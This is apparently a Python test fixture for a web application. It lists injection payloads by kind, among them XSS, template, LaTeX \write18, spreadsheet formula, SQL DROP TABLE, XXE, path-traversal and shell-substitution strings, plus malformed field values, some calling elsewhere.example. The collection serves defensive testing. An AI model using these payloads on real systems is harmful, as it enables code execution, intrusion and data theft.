"""What somebody who means harm would write into a field, by kinds.

Each text has a name of its own in it (``{c}``), by which it is found again wherever it is shown. What
it would run is the function ``ran`` of the page, which no page has: a test in the browser gives it one.
"""

from __future__ import annotations

PLANTED = "zqplanted"
"""The class of every element that would come to be if a text were taken for markup."""

FORGED = "zqforged"
"""Stands where a text would make a further entry, field or element in an export."""

PRODUCT = "62615533"
"""What ``7919 * 7907`` gives, should any template reckon."""

_RUN = "ran('{c}')"

PAYLOADS = {
    "script": "{c} </title></textarea></script></style></template></noscript>--> "
    "<script>RUN</script><svg class=zqplanted onload=RUN><img class=zqplanted src=x onerror=RUN>",
    "attribute": '{c} " onmouseover="RUN" onfocus=RUN autofocus tabindex=0 class=zqplanted x=\'\' '
    "' onfocus=RUN autofocus class=zqplanted y=` style=background:url(//elsewhere.example/{c})",
    "entities": "{c} &lt;img class=zqplanted src=x onerror=RUN&gt; &#60;script&#62;RUN&#60;/script&#62; "
    "\\u003cscript\\u003eRUN\\x3c/script\\x3e %3Cscript%3ERUN &amp;lt;b class=zqplanted&amp;gt;",
    "addresses": "{c} javascript:RUN JaVa&#9;Script:RUN &#1;javascript:RUN vbscript:RUN "
    "data:text/html,<script>RUN</script> //elsewhere.example/{c} <a href=javascript:RUN>x</a>",
    "markdown": "{c} [a](javascript:RUN) [b](JAVASCRIPT&colon;RUN) [c](data:text/html;base64,PHM+) "
    "<javascript:RUN> ![d](https://elsewhere.example/{c}.png) <b class=zqplanted>e</b> [f][g]\n\n"
    '[g]: javascript:RUN "x"\n\n<div class=zqplanted onclick=RUN>\n\n| a |\n|:-:|\n| <i onclick=RUN> |',
    "template": "{c} {{ 7919*7907 }} ${7919*7907} #{7919*7907} <%= 7919*7907 %> {% raw %} "
    "{% include 'x' %} "
    "<!-- evidence:home --> <!-- evidence:content --> evidence-page-title evidence-site-name "
    "evidence-page-description",
    "latex": "{c} \\input{/etc/passwd} \\immediate\\write18{id} \\csname write\\endcsname18 ^^5cinput "
    "}} @misc{zqforged, title={x}} % $x_2^ ~ # & \\end{document} {{{ \\catcode`\\@=0 \\verb|x",
    "equals": "=cmd|' /C calc'!A0 {c}",
    "hyperlink": '=HYPERLINK("https://elsewhere.example/{c}","x")',
    "plus": "+cmd|' /C calc'!A0 {c}",
    "minus": "-cmd|' /C calc'!A0 {c}",
    "at": "@SUM(A1:A9)*cmd|' /C calc'!A0 {c}",
    "wide": "＝cmd|' /C calc'!A0 {c}",
    "lines": "{c}\n\nER  - \nTY  - JOUR\nTI  - zqforged\n%0 Journal Article\n%T zqforged\n\n"
    "@misc{zqforged, title={x}}\n--- \nzqforged: true\n- zqforged\n::error file=zqforged::x\n",
    "paths": "{c} ../../../../etc/passwd C:\\CON \\\\elsewhere.example\\x %2e%2e%2f%00 "
    "file:///etc/passwd ~root $(id) `id` ; id | id && id",
    "sql": '{c} \'; DROP TABLE record; -- " OR ""=" */ UNION SELECT 1 NEAR(x) * ^ {x} :y ?',
    "xml": '{c} ]]> <?xml version="1.0"?><!DOCTYPE x [<!ENTITY zq SYSTEM "file:///etc/passwd">]> &zq; '
    "&#0; &#x1; <![CDATA[ <zqforged/> </w:t></w:r><w:r><w:t>",
    "json": '{c} "}],"__proto__":{"zq":1},"x":[{" </script><!--<script>RUN \\u2028 \\ue000 \\',
    "unicode": "{c} \u200b\u200d\u2060\ufeff\u00ad аррӏе ﬁ Z" + "\u0300" * 60 + " \u05d0\u05d1 \u0661 "
    "\U000e0041 \ufdfd \U0001d54f ＜script＞RUN＜/script＞ \u1160\u3164",
}
"""A text of each kind. None is longer than the shortest text field may be."""

KINDS = list(PAYLOADS)


def payload(kind: str, canary: str) -> str:
    """Return the text of a kind with a name of its own in it."""
    return PAYLOADS[kind].replace("RUN", _RUN).replace("{c}", canary)


VALUES = [
    "10.5555/<img/class=zqplanted/src=x/onerror=ran('doi')>",
    "10.5555/'onmouseover=ran('doi')//",
    "10.5555/../../../etc/passwd?x=1#y%00&z=<b>",
    "10.5555/javascript:ran('doi')",
    "10.5555/=cmd|x!a0%s$&#_^~",
    "10.5555/](javascript:ran('doi'))",
    "10.5555/-->]]>;'`|@",
    "https://elsewhere.example/'onmouseover=ran('url')//",
    "https://elsewhere.example/](javascript:ran('url'))",
    "https://elsewhere.example/;ran('url')//%22%3E%3Cscript%3E",
    "https://elsewhere.example/%0d%0aSet-Cookie:zq=1?a=b&c=d#e",
    "https://elsewhere.example/=cmd|x",
    "https://elsewhere.example/%s$&#_~@*()!,",
    "javascript:ran('url')//https://x",
    "https:javascript:ran('url')",
    "HTTPS://elsewhere.example/",
    "data:text/html,<script>ran('url')</script>",
    "//elsewhere.example/x",
    "https://elsewhere.example/\"onfocus=ran('url')",
    "https://a:b@elsewhere.example/",
    "https://[::1/",
    "file:///etc/passwd",
    "../../etc/passwd",
    "a/../b",
    "con",
    "constructor",
    "--proto--",
    "x\u0000y",
    "x\ny",
    "en-x-javascript",
    "en\" onfocus=\"ran('language')",
    "0000-0002-1825-0097\" onfocus=\"ran('orcid')",
    "https://orcid.org/0000-0002-1825-0097?x=<script>",
    "2020-01-01<script>",
    "2020\n2021",
    "9780306406157<script>",
    "PMC1<script>",
    "1<script>",
    "GB<script>",
    "١٢٣",
    "protocol/../../x",
    "protocol/#x\" onfocus=\"ran('where')",
    "true<script>",
    "9" * 400,
]
"""What is offered to fields that are looked at more closely: some would pass, some must not."""
